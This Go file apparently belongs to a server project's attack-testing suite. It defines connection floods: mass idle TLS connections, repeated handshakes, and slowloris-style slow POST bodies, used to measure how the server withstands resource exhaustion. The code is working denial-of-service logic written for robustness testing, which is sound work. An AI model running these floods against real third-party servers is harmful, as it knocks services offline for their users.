// Package flood contains the attacks that take as much of a server as they can get: memory,
// connections, time to wait for bodies, and processor time.
package flood

import (
	"context"
	"fmt"
	"io"
	"time"

	"github.com/realmkeeper/realmkeeper/test/attack/attacker"
)

// The names of the floods.
const (
	UnfinishedRequests = "unfinished requests"
	IdleConnections    = "idle connections"
	SlowBodies         = "slow bodies"
	Handshakes         = "handshakes"
)

// Names are the names of the floods in the order of the report.
var Names = []string{UnfinishedRequests, IdleConnections, SlowBodies, Handshakes}

// Attacks contains the floods by name.
var Attacks = map[string]attacker.Attack{
	UnfinishedRequests: {Connections: 200, Converse: unfinishedRequests},
	IdleConnections:    {Connections: 20_000, Converse: idle},
	SlowBodies:         {Connections: 2000, Converse: slowBody},
	Handshakes:         {Connections: 128, Converse: handshake},
}

// idle completes the handshake and then waits until the server closes the connection.
func idle(ctx context.Context, s *attacker.Session) error {
	c, err := s.TLS(ctx, "h2")
	if err != nil {
		return err
	}
	defer c.NetConn().Close()
	_, err = io.Copy(io.Discard, struct{ io.Reader }{c.NetConn()})
	return err
}

// handshake completes the handshake and closes the connection.
func handshake(ctx context.Context, s *attacker.Session) error {
	c, err := s.TLS(ctx, "h2", "http/1.1")
	if err != nil {
		return err
	}
	return c.NetConn().Close()
}

// slowBody sends the headers of a form immediately, and then one byte of the form each second.
func slowBody(ctx context.Context, s *attacker.Session) error {
	c, err := s.TLS(ctx, "http/1.1")
	if err != nil {
		return err
	}
	defer c.NetConn().Close()
	_, err = fmt.Fprintf(c, "POST %s HTTP/1.1\r\nHost: %s\r\nContent-Type: application/x-www-form-urlencoded\r\nContent-Length: 4000\r\n\r\n", s.Post, s.HostName)
	if err != nil {
		return err
	}
	s.Requested()
	tick := time.NewTicker(time.Second)
	defer tick.Stop()
	ended := make(chan struct{})
	go func() { // the server responds or closes the connection
		defer close(ended)
		_, _ = c.Read(make([]byte, 1))
	}()
	for {
		select {
		case <-ctx.Done():
			return nil
		case <-ended:
			return nil
		case <-tick.C:
			if _, err := c.Write([]byte("a")); err != nil {
				return err
			}
		}
	}
}
